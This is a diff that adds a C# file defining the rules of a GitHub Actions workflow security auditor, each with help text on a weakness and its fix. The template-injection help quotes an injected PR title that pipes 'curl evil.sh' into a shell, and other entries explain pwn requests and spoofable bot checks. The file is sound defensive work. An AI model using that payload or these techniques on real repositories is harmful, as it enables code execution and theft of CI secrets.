@@ -1,0 +1,336 @@
+using Kingsnake.Core.Findings;
+using Kingsnake.Core.Rules;
+
+namespace Kingsnake.Workflows.Auditing;
+
+/// <summary>
+/// The workflow audit's rule descriptors. Each aliases the zizmor audit of the same check, so existing
+/// <c># zizmor: ignore[name]</c> comments and configuration keep working. Default severity and confidence are
+/// the rule's worst case; each finding carries its own grade.
+/// </summary>
+public static class WorkflowRules
+{
+    public const string Area = "workflows";
+
+    public static Rule TemplateInjection { get; } = new()
+    {
+        Id = "GHA001",
+        Name = "template-injection",
+        Title = "Attacker-controllable expression expanded into code",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [94, 78],
+        Aliases = ["template-injection"],
+        Help = """
+            GitHub replaces `${{ … }}` in a `run:` script (or in a code input such as `actions/github-script`'s
+            `script:`) with the value's text *before* the shell or interpreter sees it. A value an outsider writes
+            (an issue or PR title, a branch name, a comment, a commit message) can therefore close a quote and run
+            commands with the job's token and secrets: ``"a"; curl evil.sh | sh; echo "`` as a PR title is enough.
+
+            The grade follows who controls the value: free text from issues, PRs, comments, commits, branch names
+            and string inputs is high; structured text (e-mail addresses) medium; matrix values and environment
+            variables of unknown origin lower; numbers, SHAs, booleans and ids are never reported. Workflows that
+            only people with write access can trigger (push, schedule, workflow_dispatch, release) are graded one
+            step lower than zizmor does. `${{ env.X }}` is followed to the `env:` that sets X.
+
+            **Fix:** pass the value through an environment variable, which the shell expands as data:
+
+            ```yaml
+            - run: echo "$TITLE"
+              env:
+                TITLE: ${{ github.event.issue.title }}
+            ```
+
+            In `actions/github-script`, read `context.payload` or `process.env` instead of interpolating.
+            """,
+    };
+
+    public static Rule DangerousTriggers { get; } = new()
+    {
+        Id = "GHA002",
+        Name = "dangerous-triggers",
+        Title = "Workflow runs privileged on events from forks",
+        Area = Area,
+        DefaultSeverity = Severity.Critical,
+        DefaultConfidence = Confidence.High,
+        Cwe = [829],
+        Aliases = ["dangerous-triggers"],
+        Help = """
+            `pull_request_target` and `workflow_run` run in the base repository's context: a token that can write,
+            and every secret, even when a fork's pull request caused them. They are safe only when nothing from the
+            fork is executed. Checking out the pull request's head (`ref: ${{ github.event.pull_request.head.sha }}`,
+            `head.ref`, `refs/pull/N/merge`, or `workflow_run.head_sha`/`head_branch`) and then running anything
+            from it (install, build, test, a local action) hands the fork your secrets ("pwn request").
+
+            Graded: a privileged trigger that checks out the fork's code and then runs steps is critical; one that
+            checks it out without running anything afterwards is high; the trigger alone is informational (zizmor:
+            high, medium confidence), and a workflow whose only job is one `actions/labeler` step is not reported.
+
+            **Fix:** use `pull_request` (read-only token, no secrets) for building and testing fork code. If the
+            workflow must comment or label, split it: a `pull_request` workflow uploads results as an artifact, and a
+            `workflow_run` workflow that never checks out or executes fork content consumes them.
+            """,
+    };
+
+    public static Rule ExcessivePermissions { get; } = new()
+    {
+        Id = "GHA003",
+        Name = "excessive-permissions",
+        Title = "GITHUB_TOKEN permissions broader than needed",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [250, 272],
+        Aliases = ["excessive-permissions"],
+        Help = """
+            Every job gets a `GITHUB_TOKEN`. Without a `permissions:` block its scopes come from a repository
+            setting, which is read/write on everything for repositories created before February 2023. A token that
+            can push code, publish packages or mint OIDC tokens turns any compromised step (a hijacked action, an
+            injection) into a supply-chain attack.
+
+            Reported: `write-all` (high), `read-all` (medium), a workflow with no `permissions:` whose jobs do not all
+            declare their own (medium), and workflow-level write grants (per scope: `contents`, `packages`, `actions`,
+            `id-token`, `pages`, `pull-requests`, `issues`, `deployments`, `attestations` high; `checks`,
+            `discussions`, `security-events` and others medium; `statuses`, `models` low). Write grants are better
+            given to the one job that needs them; with a single job (or when every job declares its own block)
+            workflow-level scopes are only reported to the pedantic persona.
+
+            **Fix:** declare least privilege at the top and widen per job:
+
+            ```yaml
+            permissions: {}
+            jobs:
+              publish:
+                permissions:
+                  id-token: write   # PyPI Trusted Publishing
+            ```
+            """,
+    };
+
+    public static Rule Artipacked { get; } = new()
+    {
+        Id = "GHA004",
+        Name = "artipacked",
+        Title = "Checkout persists the token in .git/config",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [522, 200],
+        Aliases = ["artipacked"],
+        Help = """
+            `actions/checkout` writes the job's token into `.git/config` unless told not to. Every later step (and
+            every action it runs) can read it, and an `actions/upload-artifact` of the workspace (`path: .`) publishes
+            it to anyone who can download the run's artifacts.
+
+            Graded: checkout without `persist-credentials: false` followed by an upload of the workspace is high with
+            high confidence; without such an upload, medium with low confidence. `actions/checkout` v6 and later keep
+            the credential out of `.git/config`, which lowers the severity one step.
+
+            **Fix:**
+
+            ```yaml
+            - uses: actions/checkout@v4
+              with:
+                persist-credentials: false
+            ```
+
+            Steps that need to push can set up credentials themselves, just for that step.
+            """,
+    };
+
+    public static Rule UnpinnedUses { get; } = new()
+    {
+        Id = "GHA005",
+        Name = "unpinned-uses",
+        Title = "Action or reusable workflow not pinned to a commit",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [829, 1357],
+        Aliases = ["unpinned-uses"],
+        Help = """
+            A tag (`@v4`) or branch (`@main`) can be moved by whoever controls the action's repository, or by an
+            attacker who took it over (as with tj-actions/changed-files in 2025), and the next run executes the new
+            code with your token and secrets. Only a full 40-character commit SHA is immutable.
+
+            Graded: a branch, a missing ref or an abbreviated SHA is high; a version tag is high for third-party
+            actions and medium for GitHub's own `actions/*` and `github/*` (zizmor's default policy pins everything;
+            set `UnpinnedPolicy` to `HashPinAll` for that). Local `./` actions and `docker://` images are out of scope.
+
+            **Fix:** pin the commit and keep the tag as a comment so that Dependabot or Renovate can update it:
+
+            ```yaml
+            - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
+            ```
+            """,
+    };
+
+    public static Rule UseTrustedPublishing { get; } = new()
+    {
+        Id = "GHA006",
+        Name = "use-trusted-publishing",
+        Title = "PyPI upload with a long-lived token where Trusted Publishing works",
+        Area = Area,
+        DefaultSeverity = Severity.Info,
+        DefaultConfidence = Confidence.High,
+        Cwe = [798, 522],
+        Aliases = ["use-trusted-publishing"],
+        Help = """
+            The upload authenticates with a PyPI API token or password stored as a secret. A leaked token (from
+            logs, a compromised action or an injected step) can publish releases until someone revokes it. PyPI's
+            Trusted Publishing exchanges a short-lived OIDC token instead: nothing to steal, nothing to rotate.
+
+            Reported: `pypa/gh-action-pypi-publish` with `password:`, and `run:` steps that call `twine upload`,
+            `uv publish`, `hatch publish`, `pdm publish`, `poetry publish` or `flit publish`.
+
+            **Fix:** add a trusted publisher for this repository and workflow on PyPI, then:
+
+            ```yaml
+            permissions:
+              id-token: write
+            steps:
+              - uses: pypa/gh-action-pypi-publish@76f52bc884231f62b9a034ebfe128415bbaabdfc  # v1.12.4
+            ```
+
+            (`uv publish` and `twine` pick up the OIDC token too: drop the `--token`/`-p`/`TWINE_PASSWORD`.)
+            """,
+    };
+
+    public static Rule InsecureCommands { get; } = new()
+    {
+        Id = "GHA007",
+        Name = "insecure-commands",
+        Title = "Deprecated workflow commands re-enabled",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [77],
+        Aliases = ["insecure-commands"],
+        Help = """
+            `ACTIONS_ALLOW_UNSECURE_COMMANDS: true` turns back on the `::set-env` and `::add-path` log commands,
+            which GitHub disabled in 2020 because anything that can print to the log (a test's output, a file's
+            contents, a PR title) can then set `LD_PRELOAD`, `PATH` or `NODE_OPTIONS` for every later step.
+
+            **Fix:** remove the variable and write to the files GitHub provides instead:
+            `echo "NAME=value" >> "$GITHUB_ENV"` and `echo "$dir" >> "$GITHUB_PATH"`.
+            """,
+    };
+
+    public static Rule HardcodedContainerCredentials { get; } = new()
+    {
+        Id = "GHA008",
+        Name = "hardcoded-container-credentials",
+        Title = "Container registry password written in the workflow",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [798],
+        Aliases = ["hardcoded-container-credentials"],
+        Help = """
+            A `container:` or `services:` entry gives its registry password as a literal. Everyone who can read the
+            repository can read it, and it stays in the git history after it is removed.
+
+            **Fix:** rotate the password, store it as a secret and reference it:
+
+            ```yaml
+            credentials:
+              username: ${{ github.actor }}
+              password: ${{ secrets.REGISTRY_TOKEN }}
+            ```
+            """,
+    };
+
+    public static Rule SecretsInherit { get; } = new()
+    {
+        Id = "GHA009",
+        Name = "secrets-inherit",
+        Title = "Reusable workflow receives every secret",
+        Area = Area,
+        DefaultSeverity = Severity.Medium,
+        DefaultConfidence = Confidence.High,
+        Cwe = [200, 272],
+        Aliases = ["secrets-inherit"],
+        Help = """
+            `secrets: inherit` passes every secret of the calling repository (and organisation) to the called
+            workflow, whatever it needs. If the called workflow, or an action it uses, is compromised or later
+            changed, all of them leak.
+
+            **Fix:** pass only what the workflow declares:
+
+            ```yaml
+            uses: org/workflows/.github/workflows/publish.yml@<sha>
+            secrets:
+              PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}
+            ```
+            """,
+    };
+
+    public static Rule OverprovisionedSecrets { get; } = new()
+    {
+        Id = "GHA010",
+        Name = "overprovisioned-secrets",
+        Title = "Whole secrets context exposed",
+        Area = Area,
+        DefaultSeverity = Severity.Medium,
+        DefaultConfidence = Confidence.High,
+        Cwe = [200],
+        Aliases = ["overprovisioned-secrets"],
+        Help = """
+            `toJSON(secrets)` (or any use of the whole `secrets` object, or `secrets[<computed name>]`) makes every
+            secret available to the step, so the runner must register all of them for masking and a single
+            compromised step or action gets them all.
+
+            **Fix:** name the secrets the step needs: `${{ secrets.PYPI_TOKEN }}`. For a computed choice, use a
+            literal map of the few allowed names, or GitHub environments.
+            """,
+    };
+
+    public static Rule BotConditions { get; } = new()
+    {
+        Id = "GHA011",
+        Name = "bot-conditions",
+        Title = "Spoofable bot check in a job condition",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [290],
+        Aliases = ["bot-conditions"],
+        Help = """
+            `github.actor` is whoever caused the *latest* event, not who wrote the code. An attacker can open a pull
+            request, wait for Dependabot (or another bot) to act on it, or trigger a bot by a comment, and a condition
+            like `if: github.actor == 'dependabot[bot]'` then lets the attacker's code through with the privileges
+            meant for the bot. `github.triggering_actor` and `github.event.sender.login` have the same weakness.
+
+            Graded high confidence when the check decides the whole condition, medium when it is one part of it.
+
+            **Fix:** check who authored the pull request, which cannot change afterwards:
+            `if: github.event.pull_request.user.login == 'dependabot[bot]'`.
+            """,
+    };
+
+    public static Rule UnsoundCondition { get; } = new()
+    {
+        Id = "GHA012",
+        Name = "unsound-condition",
+        Title = "Condition that is always true",
+        Area = Area,
+        DefaultSeverity = Severity.High,
+        DefaultConfidence = Confidence.High,
+        Cwe = [670],
+        Aliases = ["unsound-condition"],
+        Help = """
+            An `if:` written as a block scalar (`if: |` or `if: >`) keeps a trailing newline after the `${{ … }}`.
+            GitHub then evaluates a non-empty string, not the expression, and the condition is always true: the
+            guard you wrote never runs.
+
+            **Fix:** strip the newline with `|-` or `>-`, or write the condition on one line without fences.
+            """,
+    };
+
+    public static IReadOnlyList<Rule> All { get; } =
+    [
+        TemplateInjection, DangerousTriggers, ExcessivePermissions, Artipacked, UnpinnedUses, UseTrustedPublishing,
+        InsecureCommands, HardcodedContainerCredentials, SecretsInherit, OverprovisionedSecrets, BotConditions, UnsoundCondition,
+    ];
+}
